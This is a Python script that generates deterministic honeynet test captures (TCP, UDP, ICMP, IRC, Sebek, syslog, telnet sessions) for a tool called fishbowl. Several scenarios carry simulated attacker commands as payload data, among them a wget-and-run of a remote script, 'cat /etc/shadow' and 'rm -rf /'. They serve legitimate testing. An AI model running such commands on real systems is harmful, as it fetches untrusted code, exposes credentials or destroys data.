#!/usr/bin/env python3
"""mkpcap: deterministic test captures for fishbowl, standard library only.

A small frame library (Ethernet, 802.1Q, IPv4, IPv6, TCP, UDP, ICMP,
ICMPv6, every checksum correct unless asked otherwise) and named scenarios,
each a fixed sequence of frames at fixed times, written as classic pcap.

    mkpcap.py SCENARIO OUT.pcap [--ipv6] [--vlan VID] [--nsec] [--arg N]
    mkpcap.py --list

The replay tests (tests/replay/*.sh) know what each scenario contains and
assert the exact verdicts fishbowl must give; the comments on each scenario
say what is in it.  The "bench" scenario streams a large mixed capture
(--arg = size in MB) without holding it in memory.

Addresses: the honeynet is 10.0.0.0/24 (honeypot 10.0.0.5); the outside is
198.51.100.0/24 and 203.0.113.0/24.  With --ipv6, 10.0.0.X becomes
2001:db8:1::X and a.b.c.d outside becomes 2001:db8:ff:c::d.
"""

import argparse
import calendar
import socket
import struct
import sys
from array import array

# 2026-11-26 08:00:00 UTC: every scenario's time 0 unless it says otherwise.
T0 = calendar.timegm((2026, 11, 26, 8, 0, 0)) * 1_000_000_000
SEC = 1_000_000_000
MS = 1_000_000

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10

# ---------------------------------------------------------------- checksums

_LITTLE = sys.byteorder == "little"


def csum_partial(data):
    """Ones'-complement sum of data as 16-bit words, not yet folded or
    inverted; partial sums of even-length pieces add up (RFC 1071)."""
    if len(data) & 1:
        data = data + b"\0"
    s = sum(array("H", data))
    if _LITTLE:
        # the sum of byte-swapped words is the byte-swapped sum
        while s >> 16:
            s = (s & 0xFFFF) + (s >> 16)
        s = ((s & 0xFF) << 8) | (s >> 8)
    return s


def csum_finish(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def checksum(data):
    return csum_finish(csum_partial(data))


# ---------------------------------------------------------------- addresses


def ip_bytes(a):
    if ":" in a:
        return socket.inet_pton(socket.AF_INET6, a)
    return socket.inet_aton(a)


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def to_v6(a):
    """The IPv6 twin of a scenario's IPv4 address (see the module comment)."""
    o = [int(x) for x in a.split(".")]
    if o[0] == 10:
        return "2001:db8:1::%x" % o[3]
    return "2001:db8:ff:%x::%x" % (o[2], o[3])


# ---------------------------------------------------------------- layers


def eth(dst, src, etype, payload, vlans=()):
    """Ethernet II, with 802.1Q tags (outermost first) when vlans is set."""
    h = mac_bytes(dst) + mac_bytes(src)
    for vid in vlans:
        h += struct.pack("!HH", 0x8100, vid & 0x0FFF)
    return h + struct.pack("!H", etype) + payload


def ip4(src, dst, proto, payload, ident=0, ttl=64, df=True, frag=0, mf=False,
        tos=0, total=None, bad_csum=False):
    flags = (0x4000 if df else 0) | (0x2000 if mf else 0) | (frag & 0x1FFF)
    tl = 20 + len(payload) if total is None else total
    h = struct.pack("!BBHHHBBH4s4s", 0x45, tos, tl & 0xFFFF, ident & 0xFFFF,
                    flags, ttl, proto, 0, ip_bytes(src), ip_bytes(dst))
    c = checksum(h) ^ (0xFFFF if bad_csum else 0)
    return h[:10] + struct.pack("!H", c) + h[12:] + payload


def ip6(src, dst, nh, payload, hlim=64):
    return struct.pack("!IHBB16s16s", 0x60000000, len(payload), nh, hlim,
                       ip_bytes(src), ip_bytes(dst)) + payload


def pseudo_sum(src, dst, proto, length):
    if ":" in src:
        ph = ip_bytes(src) + ip_bytes(dst) + struct.pack("!IxxxB", length, proto)
    else:
        ph = ip_bytes(src) + ip_bytes(dst) + struct.pack("!xBH", proto, length)
    return csum_partial(ph)


def tcp(src, dst, sport, dport, seq, ack, flags, payload=b"", win=64240,
        options=b"", psum=None, doff=None):
    """A TCP segment; psum is csum_partial(payload) when the caller has it."""
    hl = 20 + len(options)
    off = (hl // 4) if doff is None else doff
    h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF,
                    ack & 0xFFFFFFFF, off << 4, flags, win, 0, 0) + options
    s = pseudo_sum(src, dst, 6, hl + len(payload)) + csum_partial(h)
    s += csum_partial(payload) if psum is None else psum
    c = csum_finish(s)
    return h[:16] + struct.pack("!H", c) + h[18:] + payload


def udp(src, dst, sport, dport, payload, psum=None):
    ln = 8 + len(payload)
    h = struct.pack("!HHHH", sport, dport, ln, 0)
    s = pseudo_sum(src, dst, 17, ln) + csum_partial(h)
    s += csum_partial(payload) if psum is None else psum
    c = csum_finish(s) or 0xFFFF
    return h[:6] + struct.pack("!H", c) + payload


def icmp4(typ, code, rest, payload=b""):
    h = struct.pack("!BBH", typ, code, 0) + rest
    c = checksum(h + payload)
    return h[:2] + struct.pack("!H", c) + h[4:] + payload


def icmp6(src, dst, typ, code, rest, payload=b""):
    h = struct.pack("!BBH", typ, code, 0) + rest
    body = h + payload
    c = csum_finish(pseudo_sum(src, dst, 58, len(body)) + csum_partial(body))
    return h[:2] + struct.pack("!H", c) + h[4:] + payload


# ---------------------------------------------------------------- pcap


class Pcap:
    """Classic pcap writer; times are integer nanoseconds."""

    def __init__(self, f, nsec=False, linktype=1, snaplen=262144):
        self.f = f
        self.nsec = nsec
        magic = 0xA1B23C4D if nsec else 0xA1B2C3D4
        f.write(struct.pack("<IHHiIII", magic, 2, 4, 0, 0, snaplen, linktype))
        self.frames = 0

    def write(self, ts, frame, wirelen=None):
        sec, ns = divmod(ts, SEC)
        frac = ns if self.nsec else ns // 1000
        n = len(frame)
        self.f.write(struct.pack("<IIII", sec, frac, n,
                                 n if wirelen is None else wirelen))
        self.f.write(frame)
        self.frames += 1


def read_pcap(path):
    """[(ts_ns, caplen, wirelen, bytes)] of a classic pcap (either magic,
    either byte order) -- used by the tests to compare input and output."""
    out = []
    with open(path, "rb") as f:
        hdr = f.read(24)
        if len(hdr) < 24:
            raise ValueError("%s: short pcap header" % path)
        m = struct.unpack("<I", hdr[:4])[0]
        if m in (0xA1B2C3D4, 0xA1B23C4D):
            e = "<"
        else:
            e = ">"
            m = struct.unpack(">I", hdr[:4])[0]
        if m not in (0xA1B2C3D4, 0xA1B23C4D):
            raise ValueError("%s: not a classic pcap" % path)
        scale = 1 if m == 0xA1B23C4D else 1000
        while True:
            rh = f.read(16)
            if not rh:
                break
            if len(rh) < 16:
                raise ValueError("%s: cut record header" % path)
            sec, frac, caplen, wirelen = struct.unpack(e + "IIII", rh)
            data = f.read(caplen)
            if len(data) < caplen:
                raise ValueError("%s: cut record" % path)
            out.append((sec * SEC + frac * scale, caplen, wirelen, data))
    return out


# ---------------------------------------------------------------- network


HP_MAC = "02:00:00:00:00:05"
GW_MAC = "02:00:00:00:00:01"	# the outside router, seen by the honeynet


class Net:
    """Turns (time, src, dst, l4) into frames; knows the variant (IPv6,
    VLAN) so one scenario can be written once and generated three ways."""

    def __init__(self, ipv6=False, vlan=None):
        self.ipv6 = ipv6
        self.vlans = (vlan,) if vlan else ()
        self.frames = []
        self.ident = 1

    def a(self, addr):
        return to_v6(addr) if self.ipv6 and "." in addr else addr

    def _mac(self, addr):
        return HP_MAC if addr.startswith("10.") or addr.startswith("2001:db8:1:") \
            else GW_MAC

    def ip(self, src, dst, proto, l4, vlans=None, **kw):
        """An Ethernet frame holding an IP packet (addresses already mapped)."""
        if ":" in src:
            p = ip6(src, dst, proto, l4)
            et = 0x86DD
        else:
            self.ident = (self.ident + 1) & 0xFFFF
            p = ip4(src, dst, proto, l4, ident=self.ident, **kw)
            et = 0x0800
        dmac = GW_MAC if self._mac(src) == HP_MAC else HP_MAC
        return eth(dmac, self._mac(src), et, p,
                   self.vlans if vlans is None else vlans)

    def add(self, t, frame, wirelen=None):
        self.frames.append((t, len(self.frames), frame, wirelen))

    # -- layer 4 helpers taking scenario (IPv4) addresses

    def tcp(self, t, src, dst, sport, dport, seq, ack, flags, payload=b"", **kw):
        s, d = self.a(src), self.a(dst)
        self.add(t, self.ip(s, d, 6, tcp(s, d, sport, dport, seq, ack, flags,
                                         payload, **kw)))

    def udp(self, t, src, dst, sport, dport, payload):
        s, d = self.a(src), self.a(dst)
        self.add(t, self.ip(s, d, 17, udp(s, d, sport, dport, payload)))

    def ping(self, t, src, dst, ident, seq, reply=False, payload=b"fishbowl-ping-0123456789abcdef"):
        s, d = self.a(src), self.a(dst)
        rest = struct.pack("!HH", ident, seq)
        if ":" in s:
            l4 = icmp6(s, d, 129 if reply else 128, 0, rest, payload)
            self.add(t, self.ip(s, d, 58, l4))
        else:
            self.add(t, self.ip(s, d, 1, icmp4(0 if reply else 8, 0, rest, payload)))

    def port_unreachable(self, t, src, dst, about):
        """src tells dst that the packet `about` (IP header onwards) found no
        port."""
        s, d = self.a(src), self.a(dst)
        if ":" in s:
            l4 = icmp6(s, d, 1, 4, b"\0\0\0\0", about)
            self.add(t, self.ip(s, d, 58, l4))
        else:
            self.add(t, self.ip(s, d, 1, icmp4(3, 3, b"\0\0\0\0", about)))

    def udp_packet(self, src, dst, sport, dport, payload):
        """The IP packet alone (for quoting in ICMP errors)."""
        s, d = self.a(src), self.a(dst)
        l4 = udp(s, d, sport, dport, payload)
        if ":" in s:
            return ip6(s, d, 17, l4)
        return ip4(s, d, 17, l4, ident=0x4242)

    def session(self, t, cli, srv, sport, dport, isn_c=1000, isn_s=5000,
                req=b"GET / HTTP/1.0\r\n\r\n", resp=b"HTTP/1.0 200 OK\r\n\r\nhello\n",
                rtt=10 * MS, syn_retx=0, close=True):
        """A whole TCP connection: SYN (retransmitted syn_retx times, 1 s
        apart, same ISN), SYN-ACK, ACK, request, response, FIN both ways.
        Returns the time of its last frame."""
        c, s = isn_c, isn_s
        self.tcp(t, cli, srv, sport, dport, c, 0, SYN, options=MSS)
        for _ in range(syn_retx):
            t += SEC
            self.tcp(t, cli, srv, sport, dport, c, 0, SYN, options=MSS)
        t += rtt
        self.tcp(t, srv, cli, dport, sport, s, c + 1, SYN | ACK, options=MSS)
        t += MS
        self.tcp(t, cli, srv, sport, dport, c + 1, s + 1, ACK)
        t += MS
        self.tcp(t, cli, srv, sport, dport, c + 1, s + 1, PSH | ACK, req)
        c += 1 + len(req)
        t += rtt
        self.tcp(t, srv, cli, dport, sport, s + 1, c, PSH | ACK, resp)
        s += 1 + len(resp)
        if not close:
            return t
        t += MS
        self.tcp(t, cli, srv, sport, dport, c, s, FIN | ACK)
        t += rtt
        self.tcp(t, srv, cli, dport, sport, s, c + 1, FIN | ACK)
        t += MS
        self.tcp(t, cli, srv, sport, dport, c + 1, s + 1, ACK)
        return t

    def conversation(self, t, cli, srv, sport, dport, turns, isn_c=1000,
                     isn_s=5000, rtt=10 * MS, mss=1460, close=True):
        """A whole TCP connection carrying turns, a list of ("c"|"s", bytes):
        handshake, each turn sent in segments of at most mss bytes and
        acknowledged by the other side, then FIN both ways.  Returns
        (time of the last frame, next client seq, next server seq)."""
        c, s = isn_c, isn_s
        self.tcp(t, cli, srv, sport, dport, c, 0, SYN, options=MSS)
        t += rtt
        self.tcp(t, srv, cli, dport, sport, s, c + 1, SYN | ACK, options=MSS)
        t += MS
        c, s = c + 1, s + 1
        self.tcp(t, cli, srv, sport, dport, c, s, ACK)
        for who, data in turns:
            for off in range(0, len(data), mss):
                seg = data[off:off + mss]
                t += MS
                if who == "c":
                    self.tcp(t, cli, srv, sport, dport, c, s, PSH | ACK, seg)
                    c += len(seg)
                else:
                    self.tcp(t, srv, cli, dport, sport, s, c, PSH | ACK, seg)
                    s += len(seg)
            t += rtt
            if who == "c":
                self.tcp(t, srv, cli, dport, sport, s, c, ACK)
            else:
                self.tcp(t, cli, srv, sport, dport, c, s, ACK)
        if close:
            t += MS
            self.tcp(t, cli, srv, sport, dport, c, s, FIN | ACK)
            t += rtt
            self.tcp(t, srv, cli, dport, sport, s, c + 1, FIN | ACK)
            t += MS
            self.tcp(t, cli, srv, sport, dport, c + 1, s + 1, ACK)
        return t, c, s

    def write(self, path, nsec=False):
        self.frames.sort(key=lambda x: (x[0], x[1]))
        with open(path, "wb") as f:
            w = Pcap(f, nsec=nsec)
            for t, _, frame, wirelen in self.frames:
                w.write(t, frame, wirelen)
        return len(self.frames)


MSS = struct.pack("!BBH", 2, 4, 1460)
HP = "10.0.0.5"

# ---------------------------------------------------------------- scenarios
# Each takes (net, arg) and adds frames.  The replay tests assert on them:
# change a scenario and its test together.

SCENARIOS = {}


def scenario(fn):
    SCENARIOS[fn.__name__] = fn
    return fn


@scenario
def conversation(n, arg):
    """An inbound TCP connection from 198.51.100.9:40000 to 10.0.0.5:23
    carrying a short exchange both ways (4 turns, one of 3000 bytes split
    at the MSS).  A base for the capture-layer tests."""
    n.conversation(0, "198.51.100.9", HP, 40000, 23,
                   [("s", b"login: "), ("c", b"root\r\n"),
                    ("s", bytes(range(256)) * 11 + bytes(184)),
                    ("c", b"exit\r\n")])


@scenario
def irc(n, arg):
    """IRC from the honeypot: 10.0.0.5:40001 -> 203.0.113.7:6667 (server
    speaks first; registration, JOIN of two channels, topic reply, PRIVMSG,
    CTCP ACTION, DCC SEND, NICK change, TOPIC, PART, QUIT) in 40-byte
    segments, so lines straddle segments; then a reconnect to another server
    on another port, 198.51.100.20:7000, under another nick.  Test:
    tests/replay/86-irc.sh."""
    t, _, _ = n.conversation(T0, HP, "203.0.113.7", 40001, 6667, [
        ("s", b":irc.example.net NOTICE * :*** Looking up your hostname\r\n"),
        ("c", b"NICK tim\r\nUSER tim 0 * :Tim\r\n"),
        ("s", b":irc.example.net 001 tim :Welcome tim\r\n"),
        ("c", b"JOIN #alpha,#beta\r\n"),
        ("s", b":tim!tim@10.0.0.5 JOIN #alpha\r\n"
              b":irc.example.net 332 tim #alpha :alpha topic\r\n"
              b":tim!tim@10.0.0.5 JOIN #beta\r\n"),
        ("c", b"PRIVMSG #alpha :hello alpha\r\nPRIVMSG #beta :\x01ACTION waves\x01\r\n"),
        ("s", b":bob!b@198.51.100.2 PRIVMSG tim :\x01DCC SEND ssh.trace 167772182 35000 1320211\x01\r\n"),
        ("c", b"NICK tom\r\n"),
        ("s", b":tim!tim@10.0.0.5 NICK :tom\r\n"),
        ("c", b"TOPIC #beta :beta topic\r\nPART #beta :bye\r\nQUIT :gone\r\n"),
        ("s", b"ERROR :Closing link\r\n")], mss=40)
    n.conversation(t + SEC, HP, "198.51.100.20", 40002, 7000, [
        ("c", b"NICK tam\r\nUSER tam 0 * :Tam\r\n"),
        ("s", b":irc2.example.org 001 tam :Hi\r\n"),
        ("c", b"PRIVMSG #gamma :back again\n")])


def sebek_rec(typ, counter, sec, pid, fd, inode, com, data, usec=0, uid=0,
              ppid=1, magic=0xD0D0D0D0, version=3):
    """A Sebek v3 record (NOTES.md section 4): 56-byte big-endian header."""
    return struct.pack(">IHHIIIIIIII12sI", magic, version, typ, counter, sec,
                       usec, ppid, pid, uid, fd, inode, com, len(data)) + data


@scenario
def sebek(n, arg):
    """Sebek v3 records from honeypot 10.0.0.5 (MAC 02:00:00:00:00:05,
    client clock 2 s ahead) to 10.0.0.253:1101 (the Honeywall default
    collector): pid 300 (bash, fd 0, inode 77) types "uname -a\r" one key a
    record, with a DEL and a left arrow; pid 301 (sh) types "id\n" in one
    record between them; a write record and a socket record (connect to
    203.0.113.7:6667); the counter skips 2 records.  Then a record for
    10.0.0.5 from another MAC (forged, rejected), a version-2 record and
    one whose length is wrong.  Every one is dropped (reason sebek).
    Test: tests/replay/88-sebek.sh."""
    hp, col = HP, "10.0.0.253"
    sec0 = T0 // SEC + 2
    recs = []
    c = 1
    for i, k in enumerate([b"u", b"n", b"x", b"\x7f", b"a", b"m", b"e", b" ",
                           b"-", b"a", b"\x1b[D", b"\r"]):
        recs.append(sebek_rec(0, c, sec0, 300, 0, 77, b"bash", k, usec=i * 1000))
        c += 1
        if i == 3:
            recs.append(sebek_rec(0, c, sec0, 301, 0, 78, b"sh", b"id\n", uid=1000))
            c += 1
    recs.append(sebek_rec(1, c, sec0, 300, 1, 77, b"bash", b"Linux hp 6.1\n"))
    c += 3	# two records lost
    recs.append(sebek_rec(2, c, sec0, 302, 3, 79, b"nc",
                          ip_bytes("203.0.113.7") + struct.pack(">H", 6667)
                          + ip_bytes(hp) + struct.pack(">HHB", 40000, 3, 6)))
    for i, r in enumerate(recs):
        n.add(T0 + i * 10 * MS, n.ip(hp, col, 17, udp(hp, col, 1101, 1101, r)))
    t = T0 + SEC
    forged = sebek_rec(0, c + 1, sec0, 300, 0, 77, b"bash", b"rm -rf /\r")
    frame = n.ip(hp, col, 17, udp(hp, col, 1101, 1101, forged))
    frame = frame[:6] + mac_bytes("02:00:00:00:00:66") + frame[12:]
    n.add(t, frame)
    n.add(t + 10 * MS, n.ip(hp, col, 17, udp(hp, col, 1101, 1101,
          sebek_rec(0, c + 2, sec0, 300, 0, 77, b"bash", b"v2", version=2))))
    n.add(t + 20 * MS, n.ip(hp, col, 17, udp(hp, col, 1101, 1101,
          sebek_rec(0, c + 3, sec0, 300, 0, 77, b"bash", b"xx")[:-1])))


def sessions_body():
    """The 6000 bytes the honeypot downloads in the "sessions" scenario:
    deterministic noise (an LCG), so the binary summary's SHA-256 can be
    computed by the test."""
    x, out = 12345, bytearray()
    for _ in range(6000):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(x >> 16 & 0xFF)
    return bytes(out)


def bulk_body(kib):
    """kib KiB of deterministic noise (an LCG, as sessions_body()): the
    "bulk" scenario's transfer, so a test can hash any part of it."""
    x, out = 54321, bytearray()
    for _ in range(kib * 1024):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(x >> 16 & 0xFF)
    return bytes(out)


@scenario
def bulk(n, arg):
    """A raw binary transfer to the honeypot: 198.51.100.20:45000 ->
    10.0.0.5:4444, the client sends "get\\n", the server answers with
    --arg KiB (default 1536) of bulk_body() noise in MSS segments
    (test: tests/replay/85-binary-cap.sh)."""
    n.conversation(0, "198.51.100.20", HP, 45000, 4444,
                   [("c", b"get\n"), ("s", bulk_body(arg or 1536))])


IAC, DO, DONT, WILL, WONT, SB, SE = 255, 253, 254, 251, 252, 250, 240


@scenario
def sessions(n, arg):
    """Interactive sessions for the session/keystroke layer (test:
    tests/replay/85-sessions.sh), 10 s apart:
      t=0   telnet 198.51.100.9:40100 -> 10.0.0.5:23: option negotiation
            both ways (a subnegotiation, a split IAC), login with the
            server's echo, a password, "uname -a" typed key by key with a
            typo erased by DEL, "cd /tmp" with BS, CR NUL line ends, exit
      t=10  the honeypot downloads 6000 bytes of noise
            (sessions_body()) from 203.0.113.7:80 (10.0.0.5:41000)
      t=20  rlogin 198.51.100.10:1023 -> 10.0.0.5:513; a window-size
            message split across two segments, each acknowledged
      t=30  a raw shell on 10.0.0.5:31337 from 198.51.100.11:51000 (the
            server's prompt first)
      t=40  198.51.100.12:40300 -> 10.0.0.5:80 with a hole: the client's
            second segment (16 bytes) is not in the capture, but the
            server acknowledged it"""
    b = bytes
    tn = [("s", b([IAC, DO, 24, IAC, WILL, 1, IAC])),
          ("s", b([WILL, 3]) + b"\r\nDebian GNU/Linux 12\r\nhp login: "),
          ("c", b([IAC, WILL, 24, IAC, DO, 1, IAC, DO, 3,
                   IAC, SB, 24, 0]) + b"xterm" + b([IAC, SE]))]
    for ch in b"root":
        tn += [("c", b([ch])), ("s", b([ch]))]
    tn += [("c", b"\r\0"), ("s", b"\r\nPassword: "), ("c", b"s3cret\r\0"),
           ("s", b"\r\nLast login: Wed Nov 25\r\nroot@hp:~# ")]
    for ch in b"unamx\x7fe -a":
        echo = b"\b \b" if ch == 0x7F else b([ch])
        tn += [("c", b([ch])), ("s", echo)]
    tn += [("c", b"\r\0"),
           ("s", b"\r\nLinux hp 6.1.0-13-amd64 x86_64 GNU/Linux\r\nroot@hp:~# "),
           ("c", b"cd /tmpp\b\r\0"), ("s", b"cd /tmpp\b \b\r\nroot@hp:/tmp# "),
           ("c", b"exit\r\0"), ("s", b"\r\nlogout\r\n")]
    n.conversation(T0, "198.51.100.9", HP, 40100, 23, tn)

    body = sessions_body()
    n.conversation(T0 + 10 * SEC, HP, "203.0.113.7", 41000, 80, [
        ("c", b"GET /x HTTP/1.0\r\nHost: 203.0.113.7\r\n\r\n"),
        ("s", b"HTTP/1.0 200 OK\r\nContent-Length: 6000\r\n\r\n"),
        ("s", body)], isn_c=7000, isn_s=8000)

    n.conversation(T0 + 20 * SEC, "198.51.100.10", HP, 1023, 513, [
        ("c", b"\0root\0root\0xterm/38400\0"), ("s", b"\0"),
        ("s", b"Last login: Wed Nov 25\r\n$ "),
        ("c", b"id\r"), ("s", b"id\r\nuid=0(root) gid=0(root)\r\n$ "),
        ("c", b"\xff\xff"), ("c", b"ss\0\x18\0\x50\0\0\0\0"),
        ("c", b"ls -l\r"), ("s", b"ls -l\r\ntotal 0\r\n$ ")],
        isn_c=9000, isn_s=9500)

    n.conversation(T0 + 30 * SEC, "198.51.100.11", HP, 51000, 31337, [
        ("s", b"sh-5.2# "), ("c", b"id\n"),
        ("s", b"uid=0(root) gid=0(root) groups=0(root)\nsh-5.2# "),
        ("c", b"wget http://203.0.113.7/x.sh; sh x.sh\n"),
        ("s", b"sh-5.2# "), ("c", b"exit\n")], isn_c=11000, isn_s=11500)

    t, cli, sp = T0 + 40 * SEC, "198.51.100.12", 40300
    c, s = 100, 900
    n.tcp(t, cli, HP, sp, 80, c, 0, SYN, options=MSS)
    n.tcp(t + 10 * MS, HP, cli, 80, sp, s, c + 1, SYN | ACK, options=MSS)
    c, s = c + 1, s + 1
    n.tcp(t + 11 * MS, cli, HP, sp, 80, c, s, ACK)
    segs = [b"GET /a HTTP/1.0\r\n", b"X-Missing: yes\r\n", b"Host: h\r\n\r\n"]
    for k, seg in enumerate(segs):
        if k != 1:	# the hole: never captured
            n.tcp(t + (12 + k) * MS, cli, HP, sp, 80, c, s, PSH | ACK, seg)
        c += len(seg)
    resp = b"HTTP/1.0 200 OK\r\n\r\nok\n"
    n.tcp(t + 25 * MS, HP, cli, 80, sp, s, c, PSH | ACK, resp)
    s += len(resp)
    n.tcp(t + 26 * MS, cli, HP, sp, 80, c, s, FIN | ACK)
    n.tcp(t + 36 * MS, HP, cli, 80, sp, s, c + 1, FIN | ACK)
    n.tcp(t + 37 * MS, cli, HP, sp, 80, c + 1, s + 1, ACK)


@scenario
def syslog(n, arg):
    """Syslog sent by honeypot 10.0.0.5 to an outside collector
    192.0.2.50:514.  UDP: a bash PROMPT_COMMAND line through logger
    ("root [4242]: wget ... [0]"), an RFC 5424 message with structured
    data and a BOM; UDP from outside to the honeypot's port 514 (not the
    honeypot's syslog: ignored).  TCP (RFC 6587) in 20-byte segments, so
    frames straddle segments: an octet-counted bash SYSLOG_HISTORY line,
    then an LF-framed sshd line.  Test: tests/replay/89-syslog.sh."""
    col = "192.0.2.50"
    n.udp(T0, HP, col, 40514, 514,
          b"<13>Nov 26 08:00:00 hp root: root [4242]: wget http://203.0.113.7/x.sh [0]")
    n.udp(T0 + 10 * MS, HP, col, 40514, 514,
          b'<165>1 2026-11-26T08:00:00.010Z hp app 7 ID47 [ex@32473 k="v\\"q"] '
          b"\xef\xbb\xbfhello")
    n.udp(T0 + 20 * MS, "198.51.100.9", HP, 40000, 514, b"<13>spoofed: not ours")
    hist = b"<86>1 2026-11-26T08:00:01Z hp bash 99 - - HISTORY: PID=99 UID=0 cat /etc/shadow"
    n.conversation(T0 + SEC, HP, col, 40515, 514, [
        ("c", str(len(hist)).encode() + b" " + hist +
              b"<38>Nov 26 08:00:02 hp sshd[7]: Accepted password for root\n")],
        mss=20)


@scenario
def tcp_limit(n, arg):
    """5 outbound TCP connections from 10.0.0.5, 10 s apart, to 198.51.100.1..5
    ports 8001..8005, each complete (SYN .. FIN).  With tcp = 3/hour: 3
    forwarded, 2 dropped."""
    for i in range(5):
        n.session(T0 + i * 10 * SEC, HP, "198.51.100.%d" % (i + 1), 40001 + i,
                  8001 + i, isn_c=1000 * (i + 1), isn_s=900000 + i)


@scenario
def syn_retx(n, arg):
    """tcp = 2/hour.  A: SYN to 198.51.100.1:80 at 0, the same SYN (same ISN)
    again at 1 s, then the handshake; B: 198.51.100.2:80 at 10 s; C:
    198.51.100.3:80 at 20 s (over the limit) whose SYN is retransmitted at 21 s.
    Expect A, B forwarded; C dropped; 3 conn records."""
    n.session(T0, HP, "198.51.100.1", 40001, 80, isn_c=111, syn_retx=1)
    n.session(T0 + 10 * SEC, HP, "198.51.100.2", 40002, 80, isn_c=222)
    n.session(T0 + 20 * SEC, HP, "198.51.100.3", 40003, 80, isn_c=333, syn_retx=1)


@scenario
def syn_reuse(n, arg):
    """tcp = 2/hour, one 5-tuple 10.0.0.5:40001 -> 198.51.100.1:80 that is
    never answered (a flood cycling through its source ports comes back to
    it): SYN ISN 111 at 0 s, the same SYN at 1 s (a retransmission), a SYN
    with ISN 5000 at 2 s (a new connection: the 2nd), ISN 9000 at 3 s (the
    3rd: over the limit), ISN 9000 again at 4 s (its retransmission).
    Expect 3 SYNs forwarded (111, 111, 5000), 2 dropped."""
    for t, isn in ((0, 111), (1, 111), (2, 5000), (3, 9000), (4, 9000)):
        n.tcp(T0 + t * SEC, HP, "198.51.100.1", 40001, 80, isn, 0, SYN, options=MSS)


WINDOW_TIMES = [0, 10, 20, 59.999, 60, 61, 65, 70, 71, 131]


@scenario
def window(n, arg):
    """tcp = 2/minute: one connection (SYN, SYN-ACK, ACK, RST) at each time
    of WINDOW_TIMES (seconds), to 198.51.100.(i+1):(9000+i)."""
    for i, s in enumerate(WINDOW_TIMES):
        t = T0 + int(round(s * 1000)) * MS
        dst = "198.51.100.%d" % (i + 1)
        sp, dp, c, srv = 41000 + i, 9000 + i, 7000 + i, 3000 + i
        n.tcp(t, HP, dst, sp, dp, c, 0, SYN, options=MSS)
        n.tcp(t + 100_000, dst, HP, dp, sp, srv, c + 1, SYN | ACK, options=MSS)
        n.tcp(t + 200_000, HP, dst, sp, dp, c + 1, srv + 1, ACK)
        n.tcp(t + 300_000, HP, dst, sp, dp, c + 1, srv + 1, RST | ACK)


TOTAL_TIMES = [0, 10, 20, 7200, 5 * 3600]


@scenario
def total(n, arg):
    """tcp = 2/total: connections at TOTAL_TIMES (0, 10 s, 20 s, 2 h, 5 h) to
    198.51.100.(i+1):(7000+i).  Expect the first 2 forwarded, all later
    dropped."""
    for i, s in enumerate(TOTAL_TIMES):
        n.session(T0 + s * SEC, HP, "198.51.100.%d" % (i + 1), 42000 + i,
                  7000 + i, isn_c=100 + i)


@scenario
def replies(n, arg):
    """Traffic opened from outside, each answered by the honeypot; then, at
    100 s, one outbound connection of each class (limits 1/hour each).
      - 2 inbound TCP connections (203.0.113.7 -> :22, 203.0.113.8 -> :80)
      - UDP 203.0.113.9:5353 -> 10.0.0.5:53, reply from the honeypot
      - UDP 203.0.113.10:40000 -> 10.0.0.5:9 and the honeypot's ICMP
        port unreachable about it
      - ICMP echo 203.0.113.11 -> 10.0.0.5 (id 77) x2, and the replies
    then outbound: TCP to 198.51.100.1:443, UDP to 198.51.100.2:123 (+reply),
    ICMP echo to 198.51.100.3 (+reply)."""
    n.session(T0, "203.0.113.7", HP, 50001, 22, isn_c=1, isn_s=2,
              req=b"SSH-2.0-scan\r\n", resp=b"SSH-2.0-OpenSSH_9.2\r\n")
    n.session(T0 + 5 * SEC, "203.0.113.8", HP, 50002, 80, isn_c=3, isn_s=4)
    t = T0 + 10 * SEC
    n.udp(t, "203.0.113.9", HP, 5353, 53, b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x03foo\x00\x00\x01\x00\x01")
    n.udp(t + 5 * MS, HP, "203.0.113.9", 53, 5353, b"\x12\x34\x81\x83\x00\x01\0\0\0\0\0\0\x03foo\x00\x00\x01\x00\x01")
    t = T0 + 20 * SEC
    probe = b"probe"
    n.udp(t, "203.0.113.10", HP, 40000, 9, probe)
    n.port_unreachable(t + MS, HP, "203.0.113.10",
                       n.udp_packet("203.0.113.10", HP, 40000, 9, probe))
    t = T0 + 30 * SEC
    for k in range(2):
        n.ping(t + k * SEC, "203.0.113.11", HP, 77, k + 1)
        n.ping(t + k * SEC + MS, HP, "203.0.113.11", 77, k + 1, reply=True)
    t = T0 + 100 * SEC
    n.session(t, HP, "198.51.100.1", 43000, 443, isn_c=9)
    n.udp(t + SEC, HP, "198.51.100.2", 43001, 123, b"\x23" + b"\0" * 47)
    n.udp(t + SEC + 20 * MS, "198.51.100.2", HP, 123, 43001, b"\x24" + b"\0" * 47)
    n.ping(t + 2 * SEC, HP, "198.51.100.3", 99, 1)
    n.ping(t + 2 * SEC + 20 * MS, "198.51.100.3", HP, 99, 1, reply=True)


@scenario
def udp_flows(n, arg):
    """udp = 3/hour, exempt = 203.0.113.53:53/udp.  In order, 2 s apart
    (well inside any UDP timeout):
      0  198.51.100.10:9999  3 datagrams out + 3 replies (one flow, counts 1)
      1  198.51.100.53:53    DNS query + reply (counts 2)
      2  203.0.113.53:53     5 queries from 5 source ports (exempt, never counted)
      3  198.51.100.11:7777  1 datagram (counts 3)
      4  198.51.100.12:7777  1 datagram (over: dropped, limit)
      5  203.0.113.53:53     1 more query (exempt: still forwarded)
      6  198.51.100.10:9999  same flow as 0, 1 more datagram (still forwarded)"""
    t = T0
    for k in range(3):
        n.udp(t + k * SEC, HP, "198.51.100.10", 44000, 9999, b"data%d" % k)
        n.udp(t + k * SEC + 10 * MS, "198.51.100.10", HP, 9999, 44000, b"back%d" % k)
    t += 2 * SEC
    q = b"\xab\xcd\x01\x00\x00\x01\0\0\0\0\0\0\x07example\x03com\x00\x00\x01\x00\x01"
    n.udp(t, HP, "198.51.100.53", 44001, 53, q)
    n.udp(t + 20 * MS, "198.51.100.53", HP, 53, 44001, q[:2] + b"\x81\x80" + q[4:])
    t += 2 * SEC
    for k in range(5):
        n.udp(t + k * 100 * MS, HP, "203.0.113.53", 44010 + k, 53, q)
